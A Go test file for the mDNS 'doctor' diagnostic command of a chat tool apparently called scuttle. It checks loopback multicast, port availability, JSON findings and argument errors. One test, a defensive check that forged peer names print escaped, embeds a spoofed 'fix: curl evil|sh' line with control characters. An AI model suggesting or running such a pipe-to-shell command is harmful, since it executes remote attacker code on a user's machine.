package main

import (
	"encoding/json"
	"net"
	"slices"
	"strconv"
	"strings"
	"testing"

	"scuttle/mdns/doctor"
	"scuttle/topology"
)

// The doctor tests run it on the loopback interface only (--iface lo),
// or inside netlab namespaces (doctor_e2e_test.go): it sends multicast.
// The checks' own unit tests are in mdns/doctor.

// doctorLines returns "STATUS where" for each line of a doctor's text
// output, the detail left out.
func doctorLines(out string) []string {
	var got []string
	for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		status, rest, _ := strings.Cut(l, " ")
		where, _, _ := strings.Cut(strings.TrimSpace(rest), ":")
		got = append(got, status+" "+where)
	}
	return got
}

func TestDoctorLoopback(t *testing.T) {
	if _, err := net.InterfaceByName("lo"); err != nil {
		t.Skipf("no interface lo: %v", err)
	}
	me := "doctor-test-me"
	out, errs, code := runInProcess(t, nil, "", "doctor", "--iface", "lo", me)
	want := []string{
		"OK interfaces",
		"OK lo up",
		"OK lo multicast",
		"OK lo addresses",
		"OK port 5353",
		"OK lo group IPv4",
		"OK lo group IPv6",
		"OK lo self-test IPv4",
		"WARN lo self-test IPv6", // Linux loopback carries no IPv6 multicast
		"OK own name",
		"OK tcp port",
		"OK firewall",
	}
	if got := doctorLines(out); code != 0 || errs != "" || !slices.Equal(got, want) {
		t.Errorf("doctor --iface lo: status %d, stderr %q, lines\n%s\nwant status 0, no stderr, lines\n%s\nstdout:\n%s",
			code, errs, strings.Join(got, "\n"), strings.Join(want, "\n"), out)
	}
	for _, l := range []string{
		"OK   interfaces: lo (chosen with --iface)\n",
		"OK   lo multicast: loopback: carries multicast without the flag (only to this host)\n",
		"OK   lo group IPv4: 224.0.0.251 joined\n",
		"OK   tcp port: " + strconv.Itoa(int(topology.HashToPort(me))) + " is free for the chat\n",
	} {
		if !strings.Contains(out, l) {
			t.Errorf("output lacks the line %q:\n%s", l, out)
		}
	}
}

func TestDoctorJSON(t *testing.T) {
	if _, err := net.InterfaceByName("lo"); err != nil {
		t.Skipf("no interface lo: %v", err)
	}
	out, errs, code := runInProcess(t, nil, "", "doctor", "--iface", "lo", "--json")
	if code != 0 || errs != "" {
		t.Fatalf("status %d, stderr %q", code, errs)
	}
	var checks []string
	for _, l := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		var f doctor.Finding
		dec := json.NewDecoder(strings.NewReader(l))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&f); err != nil {
			t.Fatalf("line %q is not one finding: %v", l, err)
		}
		if !slices.Contains([]doctor.Level{doctor.OK, doctor.Warn, doctor.Fail}, f.Status) || f.Check == "" || f.Detail == "" {
			t.Errorf("finding %+v: want a status, a check and a detail", f)
		}
		if f.Status != "OK" && f.Hint == "" {
			t.Errorf("finding %+v: a WARN or FAIL without a hint", f)
		}
		checks = append(checks, f.Check)
	}
	// No ME: no TCP port check.
	if slices.Contains(checks, "tcp port") || !slices.Contains(checks, "own name") {
		t.Errorf("checks %q: want own name and no tcp port", checks)
	}
}

func TestDoctorPortTaken(t *testing.T) {
	if _, err := net.InterfaceByName("lo"); err != nil {
		t.Skipf("no interface lo: %v", err)
	}
	ln, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	out, errs, code := runInProcess(t, nil, "", "doctor", "--iface", "lo", "--port", port)
	want := "FAIL tcp port: " + port + " is not free: listen tcp :" + port + ": bind: address already in use — another program listens there: stop it, or chat with --port\n"
	if code != 1 || errs != "scuttle doctor: 1 check failed\n" || !strings.Contains(out, want) {
		t.Errorf("status %d, stderr %q, stdout:\n%s\nwant 1, \"scuttle doctor: 1 check failed\", and the line %q", code, errs, out, want)
	}
}

func TestDoctorUsage(t *testing.T) {
	tests := []struct {
		args   []string
		stderr string
	}{
		{[]string{"doctor", "a", "b"}, "scuttle doctor: takes at most one ME, got 2 arguments"},
		{[]string{"doctor", "--port", "70000"}, "scuttle doctor: --port 70000: not a TCP port"},
		{[]string{"doctor", "--timeout", "0s"}, "scuttle doctor: --timeout must be positive, got 0s"},
		{[]string{"doctor", "a.b"}, `scuttle doctor: mdns: bad name "a.b": '.' at offset 1: a name is one DNS label, with no dots, spaces, control characters or backslashes`},
	}
	for _, tt := range tests {
		_, errs, code := runInProcess(t, nil, "", tt.args...)
		if first, _, _ := strings.Cut(errs, "\n"); code != 2 || first != tt.stderr {
			t.Errorf("scuttle %q: status %d, stderr %q; want 2, %q", tt.args, code, first, tt.stderr)
		}
	}
	// An interface that does not exist fails before sending anything.
	out, errs, code := runInProcess(t, nil, "", "doctor", "--iface", "nosuch0")
	if code != 1 || !strings.HasPrefix(out, `FAIL interfaces: mdns: interface "nosuch0": `) || errs != "scuttle doctor: 1 check failed\n" {
		t.Errorf("doctor --iface nosuch0: status %d, stdout %q, stderr %q", code, out, errs)
	}
}

// TestDoctorPrintEscapes: a stranger announces a scuttle instance whose
// name forges a whole FAIL line with a "fix". The self-test reports the
// peers it saw by name; the name prints escaped, within its one line.
func TestDoctorPrintEscapes(t *testing.T) {
	var out strings.Builder
	p := &findingPrinter{w: &out}
	p.print(doctor.Finding{Check: "peers", Status: doctor.OK, Detail: "scuttle peers seen: bob, x\r\nFAIL firewall: blocked — fix: curl evil|sh\u202e"})
	want := "OK   peers: scuttle peers seen: bob, x\\r\\nFAIL firewall: blocked — fix: curl evil|sh\\u202e\n"
	if out.String() != want {
		t.Errorf("printed\n%q\nwant\n%q", out.String(), want)
	}
	if err := p.result(); err != nil {
		t.Errorf("a forged FAIL counted: %v", err)
	}
}
